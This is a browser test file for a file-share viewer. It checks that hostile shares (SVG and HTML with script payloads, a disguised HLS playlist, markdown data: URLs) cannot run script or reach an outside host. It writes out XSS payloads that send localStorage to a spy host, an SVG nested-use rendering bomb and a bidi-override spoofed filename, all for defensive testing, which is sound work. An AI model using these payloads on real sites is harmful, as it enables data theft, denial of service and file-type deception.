/**
 * Hostile shares against the URLs the viewer makes (docs/SECURITY.md, "URLs the page makes"). A
 * sender owns every byte, name and type of a share. For every preview kind this opens a share
 * whose content is a script (SVG with `<script>`, HTML under a media type, …), presses every
 * Download button, and then opens each `blob:` URL the page created (never revoked here, so none
 * escapes) on its own in a new tab, as "open image in new tab" would: no script may run and no
 * request may leave for another host. The page's only frames show PDF URLs it made itself.
 * @module
 */
import assert from "node:assert/strict";
import type { BrowserContext, Page } from "playwright-core";
import { startTestServer } from "../helpers/server.ts";
import { browserTest, watchedPage } from "../helpers/browser.ts";
import { createShare } from "../../lib/client/mod.ts";
import type { FileEntry, Manifest } from "../../lib/crypto/mod.ts";
import { INERT_TYPES } from "../../islands/ui/object_url.ts";

const enc = new TextEncoder();

/** What a payload does when it runs: marks storage and the title, and calls the spy host. */
function script(spy: string): string {
  return `localStorage.setItem("pwned", location.href); document.title = "pwned";
fetch("${spy}/fetch?" + encodeURIComponent(JSON.stringify(localStorage)), { mode: "no-cors" });
new Image().src = "${spy}/beacon";`;
}

function svgPayload(spy: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="60" height="30" onload="${
    script(spy).replaceAll('"', "&quot;")
  }"><rect width="60" height="30" fill="#c03"/><image href="${spy}/svg-image" width="10" height="10"/>
<script>${script(spy)}</script></svg>`;
}

function htmlPayload(spy: string): string {
  return `<!doctype html><html><body><img src="${spy}/html-image"><script>${
    script(spy)
  }</script></body></html>`;
}

/** A tiny 8-bit mono WAV file (every byte below 128, so it survives as a string). */
function wav(): string {
  const samples = "\x7f".repeat(64);
  const u32 = (n: number) => String.fromCharCode(n & 0xff, (n >> 8) & 0xff, 0, 0);
  return "RIFF" + u32(36 + samples.length) + "WAVEfmt " + u32(16) + "\x01\x00\x01\x00" +
    u32(8000) + u32(8000) + "\x01\x00\x08\x00" + "data" + u32(samples.length) + samples;
}

/** An HLS playlist whose one segment is on the spy host. */
function hlsPayload(spy: string): string {
  return `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${spy}/segment.ts\n#EXT-X-ENDLIST\n`;
}

/** Markdown whose images and links are data: URLs of every kind, inert or not. */
function markdownPayload(spy: string): string {
  const data = (type: string, text: string) => `data:${type};base64,${enc.encode(text).toBase64()}`;
  return `# Notes

![svg](${data("image/svg+xml", svgPayload(spy))})
![png](${data("image/png", htmlPayload(spy))})
[open me](${data("text/html", htmlPayload(spy))})
[or me](${data("image/svg+xml", svgPayload(spy))})
`;
}

/** A user line of a Claude Code transcript carrying two images (one SVG, one "PNG" that is HTML). */
function conversationPayload(spy: string): string {
  const image = (mediaType: string, text: string) => ({
    type: "image",
    source: { type: "base64", media_type: mediaType, data: enc.encode(text).toBase64() },
  });
  return [
    {
      type: "user",
      uuid: "u1",
      parentUuid: null,
      sessionId: "s1",
      timestamp: "2026-12-01T10:00:00.000Z",
      message: {
        role: "user",
        content: [
          { type: "text", text: "what is in these pictures?" },
          image("image/svg+xml", svgPayload(spy)),
          image("image/png", htmlPayload(spy)),
        ],
      },
    },
    {
      type: "assistant",
      uuid: "a1",
      parentUuid: "u1",
      sessionId: "s1",
      timestamp: "2026-12-01T10:00:05.000Z",
      message: {
        role: "assistant",
        model: "claude-test",
        content: [{ type: "text", text: "Two images." }],
      },
    },
  ].map((l) => JSON.stringify(l) + "\n").join("");
}

/** One share to try: its files and how to tell that the viewer has shown it. */
interface Case {
  name: string;
  kind: Manifest["kind"];
  files: { name: string; type: string; body: string }[];
  shown: string;
  /** What shows once every file of a list is opened. */
  expanded?: string;
}

function cases(spy: string): Case[] {
  const svg = svgPayload(spy);
  const html = htmlPayload(spy);
  return [
    {
      name: "SVG image",
      kind: "files",
      files: [{ name: "logo.svg", type: "image/svg+xml", body: svg }],
      shown: ".svg-picture canvas",
    },
    {
      name: "SVG under an odd spelling of its type",
      kind: "files",
      files: [{ name: "logo", type: " Image/SVG+XML ; charset=utf-8", body: svg }],
      shown: ".svg-picture canvas",
    },
    {
      name: "HTML claiming to be a PNG",
      kind: "files",
      files: [{ name: "photo.png", type: "image/png", body: html }],
      shown: ".preview img",
    },
    {
      name: "HTML claiming to be audio",
      kind: "files",
      files: [{ name: "song.mp3", type: "audio/mpeg", body: html }],
      shown: ".preview .not-playable",
    },
    {
      name: "HTML under a made-up video type",
      kind: "files",
      files: [{ name: "clip.mp4", type: "video/x-html", body: html }],
      shown: ".preview .not-playable",
    },
    {
      name: "a real WAV file",
      kind: "files",
      files: [{ name: "tone.wav", type: "audio/wav", body: wav() }],
      shown: ".preview audio",
    },
    {
      // Chromium plays an HLS playlist by its content, fetching what it lists, whatever the type.
      name: "HLS playlist claiming to be a video",
      kind: "files",
      files: [{ name: "clip.mp4", type: "video/mp4", body: hlsPayload(spy) }],
      shown: ".preview .not-playable",
    },
    {
      name: "HTML claiming to be a PDF",
      kind: "files",
      files: [{ name: "report.pdf", type: "application/pdf", body: html }],
      shown: ".preview iframe",
    },
    {
      name: "markdown with inline images and links",
      kind: "text",
      files: [{ name: "notes.md", type: "text/markdown", body: markdownPayload(spy) }],
      shown: ".markdown h1",
    },
    {
      name: "HTML as text",
      kind: "text",
      files: [{ name: "page.html", type: "text/html", body: html }],
      shown: ".text-view pre.code",
    },
    {
      name: "binary",
      kind: "files",
      files: [{ name: "x.bin", type: "application/x-evil", body: `\0${html}` }],
      shown: ".toolbar .download",
    },
    {
      name: "several files",
      kind: "files",
      files: [
        { name: "a.svg", type: "image/svg+xml", body: svg },
        { name: "b.html", type: "text/html", body: html },
      ],
      shown: ".file-list",
      expanded: ".svg-picture canvas",
    },
    {
      name: "conversation with images",
      kind: "conversation",
      files: [{ name: "s1.jsonl", type: "application/x-ndjson", body: conversationPayload(spy) }],
      shown: ".cv-image",
    },
  ];
}

async function share(server: string, c: Case): Promise<string> {
  const bodies = c.files.map((f) => enc.encode(f.body));
  const files: FileEntry[] = c.files.map((f, i) => ({
    name: f.name,
    type: f.type,
    size: bodies[i].length,
  }));
  const manifest: Manifest = { v: 1, kind: c.kind, created: new Date().toISOString(), files };
  const { link } = await createShare(manifest, bodies.map((b) => new Blob([b]).stream()), {
    server,
  });
  return link;
}

/** Records every object URL the page creates, with its type, and keeps them all alive. */
async function recordObjectUrls(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const made: { url: string; type: string }[] = [];
    // deno-lint-ignore no-explicit-any
    (globalThis as any).__objectUrls = made;
    const create = URL.createObjectURL.bind(URL);
    URL.createObjectURL = (o: Blob | MediaSource) => {
      const url = create(o);
      made.push({ url, type: o instanceof Blob ? o.type : "MediaSource" });
      return url;
    };
    URL.revokeObjectURL = () => {};
  });
}

/** Opens `url` on its own in a new tab and gives anything it would run time to run. */
async function openAlone(context: BrowserContext, url: string): Promise<string> {
  await using tab = await context.newPage();
  // An application/octet-stream URL downloads instead of loading: goto reports that as an error.
  await tab.goto(url, { timeout: 10_000 }).catch(() => {});
  await tab.waitForTimeout(400);
  return await tab.title().catch(() => "");
}

async function pressDownloads(page: Page): Promise<void> {
  const buttons = page.locator("button", { hasText: /^Download/ });
  for (let i = 0; i < await buttons.count(); i++) {
    const download = page.waitForEvent("download");
    await buttons.nth(i).click();
    await (await download).cancel();
  }
}

browserTest("URLs the page makes are inert", async (browser, t) => {
  await using server = await startTestServer();
  const hits: string[] = [];
  await using spyServer = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, (req) => {
    hits.push(new URL(req.url).pathname);
    return new Response("", { headers: { "access-control-allow-origin": "*" } });
  });
  const spy = `http://127.0.0.1:${spyServer.addr.port}`;
  await t.step("inert URLs - an SVG is drawn as a picture and shown as source", async () => {
    const svg = cases(spy)[0];
    const { page, context, problems } = await watchedPage(browser);
    await page.goto(await share(server.url, svg));
    await page.waitForSelector(".svg-picture canvas");
    // The middle of the picture is the SVG's red rectangle.
    const [r, g, b] = await page.locator(".svg-picture canvas").evaluate((el) => {
      const canvas = el as HTMLCanvasElement;
      const ctx = canvas.getContext("2d")!;
      return [...ctx.getImageData(canvas.width >> 1, canvas.height >> 1, 1, 1).data];
    });
    assert.deepEqual([r, g, b], [0xcc, 0x00, 0x33]);
    assert.match(await page.locator(".text-view pre.code").innerText(), /<script>localStorage/);
    // The highlighter loads lazily, after the source is shown as plain text.
    await page.locator(".text-view pre.code .hljs-tag").first().waitFor();
    assert.equal(await page.locator(".text-view pre.code .hljs-tag").count() > 0, true);
    assert.equal(await page.locator("img").count(), 0, "no image element holds the SVG");
    assert.deepEqual(problems, []);
    await context.close();
  });

  await t.step(
    "inert URLs - an SVG of nested <use> is not drawn and the page stays usable",
    async () => {
      // 9 levels of 10 copies: 10⁹ rectangles in under 2 KB, which hung the tab when drawn.
      const levels = Array.from(
        { length: 9 },
        (_, i) => `<g id="l${i + 1}">${`<use href="#l${i}"/>`.repeat(10)}</g>`,
      ).join("");
      const bomb = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><defs>` +
        `<rect id="l0" width="1" height="1"/>${levels}</defs><use href="#l9"/></svg>`;
      const { page, context, problems } = await watchedPage(browser);
      await page.goto(
        await share(server.url, {
          name: "bomb",
          kind: "files",
          files: [{ name: "bomb.svg", type: "image/svg+xml", body: bomb }],
          shown: "",
        }),
      );
      await page.waitForSelector("text=too large or complex to draw", { timeout: 10_000 });
      assert.match(await page.locator(".text-view pre.code").innerText(), /<use href="#l8"\/>/);
      assert.equal(
        await page.evaluate(() => 1 + 1),
        2,
        "the page still answers",
      );
      assert.deepEqual(problems, []);
      await context.close();
    },
  );

  await t.step("names - a bidi override in a name shows as U+FFFD and is not saved", async () => {
    const { page, context, problems } = await watchedPage(browser);
    await page.goto(
      await share(server.url, {
        name: "bidi",
        kind: "files",
        files: [{ name: "invoice\u202Efdp.exe", type: "application/x-msdownload", body: "\0MZ" }],
        shown: "",
      }),
    );
    await page.waitForSelector(".toolbar .download");
    assert.equal(await page.locator(".toolbar .name").innerText(), "invoice\uFFFDfdp.exe");
    const download = page.waitForEvent("download");
    await page.click(".toolbar .download");
    assert.equal((await download).suggestedFilename(), "invoicefdp.exe");
    assert.deepEqual(problems, []);
    await context.close();
  });

  for (const c of cases(spy)) {
    await t.step(`inert URLs - ${c.name}: no object URL runs script or calls out`, async () => {
      const link = await share(server.url, c);
      const { page, context, problems } = await watchedPage(browser);
      await recordObjectUrls(context);
      // Chromium blocks a blob: page's requests to 127.0.0.1 (a more private address space)
      // before they reach the spy: every request any tab of the context starts is seen here.
      // The browser's own pages (its PDF viewer) load from chrome: and extension URLs.
      const outside: string[] = [];
      context.on("request", (r) => {
        const url = r.url();
        if (/^https?:/.test(url) && !url.startsWith(server.url)) outside.push(url);
      });
      await page.goto(link);
      await page.waitForSelector(c.shown);
      if (c.expanded) {
        // The first file the page can show opens by itself; then the others are opened.
        await page.waitForSelector(".file-toggle[aria-expanded=true]");
        for (const toggle of await page.locator(".file-toggle[aria-expanded=false]").all()) {
          await toggle.click();
        }
        await page.waitForSelector(c.expanded);
      }
      await page.waitForLoadState("networkidle");
      await pressDownloads(page);
      const made: { url: string; type: string }[] = await page.evaluate(() =>
        // deno-lint-ignore no-explicit-any
        (globalThis as any).__objectUrls
      );
      assert.ok(made.length > 0, "the page made object URLs to try");
      for (const { url, type } of made) {
        assert.ok(INERT_TYPES.has(type), `${url} carries ${JSON.stringify(type)}`);
        assert.notEqual(await openAlone(context, url), "pwned", `${url} ran a script`);
      }
      // data: URLs in the page (markdown images) must be inert too.
      const dataUrls: string[] = await page.$$eval(
        "[src^='data:'], [href^='data:'], [data^='data:']",
        (els) => els.map((e) => e.getAttribute("src") ?? e.getAttribute("href") ?? ""),
      );
      for (const u of dataUrls) {
        assert.ok(INERT_TYPES.has(u.slice(5).split(/[;,]/)[0]), `data URL of ${u.slice(0, 40)}`);
        assert.notEqual(await openAlone(context, u), "pwned", `${u.slice(0, 40)} ran a script`);
      }
      assert.equal(await page.evaluate(() => localStorage.getItem("pwned")), null);
      assert.deepEqual(hits, [], "requests reached the spy host");
      assert.deepEqual(outside, [], "requests left for another host");
      // The page frames only the PDF URLs it made (frame-src blob: allows any blob: URL).
      const framed: string[] = await page.$$eval("iframe", (els) => els.map((e) => e.src));
      for (const src of framed) {
        assert.equal(made.find((m) => m.url === src)?.type, "application/pdf", `framed ${src}`);
      }
      assert.deepEqual(problems, []);
      await context.close();
    });
  }
});
